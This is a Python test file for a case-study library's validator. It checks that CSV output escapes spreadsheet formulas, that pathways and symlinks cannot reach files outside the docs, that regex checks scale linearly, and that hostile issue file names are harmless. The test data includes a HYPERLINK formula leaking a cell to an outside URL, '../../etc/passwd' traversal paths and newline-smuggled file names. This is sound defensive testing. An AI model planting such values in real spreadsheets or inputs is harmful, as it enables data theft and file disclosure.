"""The smaller holes around contributed text: spreadsheet formulas, paths, links, slow patterns, file names."""

from __future__ import annotations

import csv
import io
import os
import time

import pytest

from macros import escaping, from_issue, library, opendata, personal_data, validate
from macros.escaping import FORMULA_START
from macros.problems import Problems
from tests.support import FIXTURES, ROOT, copy_project
from tests.support.records import GOOD, VALID, case_file, replace

# --- Spreadsheet formulas in the open data (OWASP: CSV injection) -------------------------------


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_that_would_start_a_formula_starts_with_an_apostrophe(start):
    assert escaping.csv_cell(f'{start}HYPERLINK("https://e.org/?leak="&A2,"Click")').startswith("'" + start)


@pytest.mark.parametrize("value", ["Housing in Coventry", "E", "2014 to 2015", "", 21, None, "a=b", "x-y"])
def test_other_cells_are_left_as_they_are(value):
    assert escaping.csv_cell(value) == value


def test_the_evidence_csv_never_starts_a_cell_with_a_formula(tmp_path):
    project = copy_project(tmp_path / "project", FIXTURES / "minimal" / "data")
    case = project / "data" / "case_studies" / "fixtureton-housing.yaml"
    lines = case.read_text(encoding="utf-8").splitlines()
    for prefix, formula in (("title: ", '=HYPERLINK(""https://e.org/?leak=""&A2,""Click"")'), ("place: ", "+SUM(1,1)"),
                            ("    finding: ", "@cmd")):
        index = next(i for i, line in enumerate(lines) if line.startswith(prefix))
        lines[index] = prefix + "'" + formula.replace("'", "''") + " " + lines[index][len(prefix):].strip("'\"") + "'"
    case.write_text("\n".join(lines) + "\n", encoding="utf-8")
    lib = library.load(project)
    assert not lib.problems, lib.problems
    rows = list(csv.reader(io.StringIO(opendata.evidence_csv(lib, "https://example.org/"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for start in ("'=HYPERLINK(", "'+SUM(1,1)", "'@cmd"):
        assert any(c.startswith(start) for c in cells), start


# --- Pathway steps name pages inside docs/ only -------------------------------------------------

PATHWAY = """\
- id: a-route
  title: A route
  audience: Anyone
  summary: A route through two pages.
  steps:
    - page: precondition:E
      note: First.
    - page: {page}
      note: Second.
"""


def _pathway_problems(tmp_path, page: str):
    project = copy_project(tmp_path / "project", FIXTURES / "minimal" / "data")
    (project / "data" / "pathways.yaml").write_text(PATHWAY.format(page=page), encoding="utf-8")
    return project, [str(p) for p in library.load(project).problems]


@pytest.mark.parametrize("page", ["page:/etc/hostname.md", "page:../README.md", "page:framework/../../README.md",
                                  "page://framework/index.md", "page:framework//index.md"])
def test_a_pathway_step_cannot_name_a_file_outside_docs(tmp_path, page):
    _, problems = _pathway_problems(tmp_path, page)
    assert len(problems) == 1 and problems[0].startswith("data/pathways.yaml:8: [1].steps[2].page: "), problems
    assert "page:<file in docs/" in problems[0]


def test_a_pathway_step_cannot_follow_a_link_out_of_docs(tmp_path):
    outside = tmp_path / "outside.md"
    outside.write_text("---\ntitle: SECRET TITLE\n---\n", encoding="utf-8")
    project, _ = _pathway_problems(tmp_path, "page:framework/index.md")
    (project / "docs" / "leak.md").symlink_to(outside)
    (project / "data" / "pathways.yaml").write_text(PATHWAY.format(page="page:leak.md"), encoding="utf-8")
    problems = [str(p) for p in library.load(project).problems]
    assert len(problems) == 1 and "'page:leak.md' is not a page in the library" in problems[0]
    assert "SECRET" not in problems[0]


def test_a_pathway_step_names_a_real_page_in_docs(tmp_path):
    _, problems = _pathway_problems(tmp_path, "page:framework/index.md")
    assert problems == []


# --- Symbolic links in data/ are refused, and nothing of the target is shown ----------------------

SECRET = "root:x:0:0:SECRET-CONTENT"


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "elsewhere" / "secret-target-name.yaml"
    path.parent.mkdir()
    path.write_text(f"{SECRET}\n", encoding="utf-8")
    return path


def _assert_link_refused(problems, name):
    lines = [str(p) for p in problems]
    assert lines == [f"{name}:1: (file): {library.LINKED}"], lines
    assert not [line for line in lines if "SECRET" in line or "secret-target" in line or "elsewhere" in line]


def test_a_linked_case_study_is_refused_without_showing_the_target(tmp_path, secret):
    link = tmp_path / "data" / "case_studies" / "my-place-housing.yaml"
    link.parent.mkdir(parents=True)
    link.symlink_to(secret)
    _assert_link_refused(library.load(tmp_path).problems, "data/case_studies/my-place-housing.yaml")


def test_a_linked_list_file_and_a_broken_link_are_refused(tmp_path, secret):
    (tmp_path / "data" / "case_studies").mkdir(parents=True)
    (tmp_path / "data" / "glossary.yaml").symlink_to(secret)
    _assert_link_refused(library.load(tmp_path).problems, "data/glossary.yaml")
    (tmp_path / "data" / "glossary.yaml").unlink()
    (tmp_path / "data" / "case_studies" / "gone.yaml").symlink_to(tmp_path / "no-such-file.yaml")
    _assert_link_refused(library.load(tmp_path).problems, "data/case_studies/gone.yaml")


def test_a_linked_folder_is_refused_and_not_listed(tmp_path, secret):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "case_studies").symlink_to(secret.parent, target_is_directory=True)
    _assert_link_refused(library.load(tmp_path).problems, "data/case_studies")
    (tmp_path / "data" / "case_studies").unlink()
    (tmp_path / "data").rmdir()
    (tmp_path / "data").symlink_to(secret.parent, target_is_directory=True)
    _assert_link_refused(library.load(tmp_path).problems, "data")


def test_the_command_line_refuses_a_link_too(tmp_path, secret):
    import subprocess
    import sys

    link = case_file(tmp_path, VALID)
    link.unlink()
    link.symlink_to(secret)
    run = subprocess.run([sys.executable, "-m", "macros", "validate", str(link)], cwd=ROOT, capture_output=True,
                         text=True)
    assert run.returncode == 1 and "is a symbolic link" in run.stdout and "SECRET" not in run.stdout + run.stderr


# --- Validation takes time in step with the text ------------------------------------------------

def _best(function, *args) -> float:
    best = float("inf")
    for _ in range(5):
        start = time.process_time()
        function(*args)
        best = min(best, time.process_time() - start)
    return best


UNITS = ["a", "1", "a.", "+4", "a@", "a@b.", "](", "*[", "[a]:", "0 ", "AB12 ", "CV1 ", "page:a/"]


@pytest.mark.timing
@pytest.mark.parametrize("unit", UNITS)
def test_personal_data_checks_take_time_in_step_with_the_text(unit):
    """Scaling, not seconds: 8x the text takes about 8x the processor time (the old e-mail pattern took 64x)."""
    small, large = (unit * (size // len(unit)) for size in (32 * 1024, 256 * 1024))
    ratio = _best(personal_data.find, large) / max(_best(personal_data.find, small), 1e-4)
    assert ratio < 24, f"{unit!r}: 8x the text took {ratio:.1f}x as long"


@pytest.mark.timing
@pytest.mark.parametrize("unit", UNITS)
def test_every_field_rule_takes_time_in_step_with_the_text(unit):
    """Every text rule of the schema (patterns, links, Markdown checks) on a value as long as a whole file."""
    from macros.schema import FILES
    from macros.spec import fields_of

    specs, seen = [], set()

    def walk(cls):
        for info in fields_of(cls):
            spec = info.spec.item or info.spec
            rules = (spec.pattern, spec.markdown, bool(spec.choices))  # what makes one text rule differ from another
            if (info.type is str or info.item_type is str) and rules not in seen:
                seen.add(rules)
                specs.append(spec)
            for kind in (info.type, info.item_type):
                if isinstance(kind, type) and hasattr(kind, "__dataclass_fields__"):
                    walk(kind)

    for _, cls, _, _ in FILES:
        walk(cls)

    def check(text):
        for spec in specs:
            validate._text(spec, _Node(text), "f.yaml", "field", Problems())

    small, large = (unit * (size // len(unit)) for size in (32 * 1024, 256 * 1024))
    ratio = _best(check, large) / max(_best(check, small), 1e-4)
    assert ratio < 24, f"{unit!r}: 8x the text took {ratio:.1f}x as long"


class _Node(validate.Scalar):
    def __init__(self, value):
        super().__init__(value, 1, plain=False)


def test_a_whole_file_of_the_largest_size_validates_in_step_with_its_size(tmp_path):
    """A case study of 32 KB and one of 255 KB (the limit is 256), each with one long run of letters in a field."""
    times = []
    for size in (32 * 1024, 255 * 1024):
        folder = tmp_path / str(size)
        long = "a" * (size - len(VALID) - 40)
        path = case_file(folder, replace("summary: A short summary.", f"summary: {long}"))
        times.append(_best(lambda folder=folder, path=path: library._read(folder, [path])))
        assert os.path.getsize(path) <= 256 * 1024
    assert times[1] / max(times[0], 1e-4) < 24


# --- from-issue: the issue file's name never reaches the output ------------------------------------

NAMES = ["issue.md", "issue-42.md", "x\npublic_contact_details: [jo@example.org]\n#.md", "../../etc/passwd",
         "a: b\n- c"]


@pytest.mark.parametrize("name", NAMES)
def test_the_case_study_written_is_the_same_whatever_the_issue_file_is_called(tmp_path, name):
    written = from_issue.convert(GOOD, name, ROOT, tmp_path / "out")
    assert written.problems == []
    reference = from_issue.convert(GOOD, "issue.md", ROOT, tmp_path / "reference")
    assert written.path.read_text(encoding="utf-8") == reference.path.read_text(encoding="utf-8")
    assert "public_contact_details" not in written.path.read_text(encoding="utf-8")


def test_a_problem_against_a_hostile_issue_file_name_is_still_one_line(tmp_path):
    body = GOOD.replace("Northbridge Homes", "Northbridge Homes, jo@example.org", 1)
    result = from_issue.convert(body, "x\npublic_contact_details: [jo@example.org]\n#.md", ROOT, tmp_path)
    assert result.path is None and result.problems
    assert all("\n" not in line for line in result.problems)
